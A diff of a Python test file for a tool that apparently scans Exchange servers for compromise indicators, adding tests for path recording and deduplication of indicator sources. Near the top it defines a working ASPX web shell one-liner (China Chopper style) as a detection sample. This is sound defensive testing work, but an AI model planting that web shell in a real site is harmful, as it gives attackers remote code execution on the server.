@@ -32,12 +32,12 @@ SRC = ''
 CHOPPER = '<%@ Page Language="Jscript"%><%eval(Request.Item["k"],"unsafe");%>\r\n'
 
 
-def run(*args, env_extra=None, cmd='check'):
+def run(*args, env_extra=None, cmd='check', cwd=None):
     e = dict(os.environ)
     e.pop('NO_COLOR', None)
     e['XDG_DATA_HOME'] = '/nonexistent-exhunt-test'  # no indicator store unless --db
     e.update(env_extra or {})
-    p = subprocess.run([EXHUNT, cmd, *args], capture_output=True, env=e, timeout=300)
+    p = subprocess.run([EXHUNT, cmd, *args], capture_output=True, env=e, timeout=300, cwd=cwd)
     return p.returncode, p.stdout.decode('utf-8', 'replace'), p.stderr.decode('utf-8', 'replace')
 
 
@@ -440,6 +440,40 @@ class Sightings(Base):
         self.assertTrue(all(loc.startswith(arch + '!/C/') for loc in locs), locs)
         self.assertFalse([loc for loc in locs if 'exhunt-check-' in loc], locs)
 
+    def test_relative_paths_recorded_absolute(self):
+        """Evidence given by a relative path (a folder, an archive): the
+        sightings say where it was, absolute, as exhunt files records them;
+        the report keeps the path as given."""
+        out = self.make_examples()
+        server = os.path.join(out, 'mail13')
+        db = self.store(os.path.join(server, 'C/inetpub/wwwroot/aspnet_client/system_web/xpy07b5a.aspx'))
+        rel = os.path.relpath(server, self.tmp)
+        self.assertFalse(rel.startswith('/'))
+        rc, o, err = run('--db', db, '--format', 'jsonl', rel, cwd=self.tmp)
+        self.assertEqual(rc, 1, err)
+        paths = [r['file']['path'] for r in jsonl(o) if r.get('rule', {}).get('id') == 'exh.files.ioc.hash']
+        self.assertEqual(paths, [rel + '/C/inetpub/wwwroot/aspnet_client/system_web/xpy07b5a.aspx'])
+        locs = sorted(r['location'] for r in export(db))
+        self.assertEqual(len(locs), 2, locs)
+        # The working folder as the kernel names it (links in TMPDIR resolved).
+        server = os.path.join(os.path.realpath(self.tmp), rel)
+        hp = server + '/C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Owa/HttpProxy_2021030307-1.LOG:'
+        self.assertTrue(locs[0].startswith(hp), locs)
+        self.assertEqual(locs[1], server + '/C/inetpub/wwwroot/aspnet_client/system_web/xpy07b5a.aspx')
+        # An archive given relative: ABSOLUTE.zip!/member.
+        arch = os.path.join(self.tmp, 'EXCH13.zip')
+        with zipfile.ZipFile(arch, 'w') as z:
+            for d, _, files in os.walk(server):
+                for f in files:
+                    p = os.path.join(d, f)
+                    z.write(p, os.path.relpath(p, server))
+        rc, _, err = run('--db', db, '-q', 'EXCH13.zip', cwd=self.tmp)
+        self.assertEqual(rc, 1, err)
+        locs = sorted(r['location'] for r in export(db) if r['host'] == 'EXCH13')
+        self.assertEqual(len(locs), 2, locs)
+        arch = os.path.join(os.path.realpath(self.tmp), 'EXCH13.zip')
+        self.assertTrue(all(loc.startswith(arch + '!/C/') for loc in locs), locs)
+
     def test_address_indicator_alone_is_attempted(self):
         """Near miss of the verdict: a listed address in the requests of a clean
         server says who came, not that anything succeeded."""
@@ -469,6 +503,47 @@ class Sightings(Base):
         self.assertNotIn('ACTOR-B', incs[0]['indicators'])
         self.assertIn('ACTOR-B', incs[1]['indicators'])
         self.assertNotIn('HAFNIUM', incs[1]['indicators'])
+
+
+class IndicatorSources(Base):
+    """The sources that listed what an incident holds are each named once,
+    compared whole (case-insensitively, spaces around trimmed): a source
+    whose name is part of another's is still its own."""
+
+    def sources(self, shell_source, ip_source, extra=()):
+        out = self.make_examples()
+        server = os.path.join(out, 'mail13')
+        with open(os.path.join(server, 'C/inetpub/wwwroot/aspnet_client/system_web/xpy07b5a.aspx'), 'rb') as f:
+            h = hashlib.sha256(f.read()).hexdigest()
+        feed = os.path.join(self.tmp, 'feed.csv')
+        with open(feed, 'w', newline='') as f:
+            f.write('type,value,source\r\n')
+            for t, v, src in [('sha256', h, shell_source), ('ipv4', '203.0.113.77', ip_source), *extra]:
+                f.write('%s,%s,"%s"\r\n' % (t, v, src))
+        db = os.path.join(self.tmp, 'iocs-%d.sqlite' % len(os.listdir(self.tmp)))
+        p = subprocess.run([EXHUNT, 'ioc', '--db', db, 'import', feed], capture_output=True)
+        self.assertEqual(p.returncode, 0, p.stderr)
+        rc, o, err = self.check(server, '--format', 'jsonl', '--db', db, '--no-sightings', server)
+        self.assertEqual(rc, 1, err)
+        x = summary(jsonl(o), 'mail13')
+        self.assertEqual(len(x['incidents']), 1, x['incidents'])
+        rc, text, err = self.check(server, '--db', db, '--no-sightings', '--color', 'never', server)
+        self.assertEqual(rc, 1, err)
+        lines = [l for l in text.splitlines() if '; indicators: ' in l]
+        self.assertEqual(len(lines), 1, text)
+        shown = lines[0].split('; indicators: ', 1)[1]
+        return x['incident']['indicators'], x['incidents'][0]['indicators'], shown
+
+    def test_a_name_inside_another_is_kept(self):
+        for a, b in (('CISA', 'CISA AA21-062A'), ('CISA AA21-062A', 'CISA')):
+            for listed in self.sources(a, b):
+                self.assertEqual(sorted(listed.split('; ')), ['CISA', 'CISA AA21-062A'], listed)
+
+    def test_the_same_name_once(self):
+        """Near miss: the same source in another case (the store keeps
+        sources as written) is named once."""
+        for listed in self.sources('CISA', 'cisa', [('ipv4', '203.0.113.77', 'CISA')]):
+            self.assertEqual(listed.lower(), 'cisa', listed)
 
 
 def main():
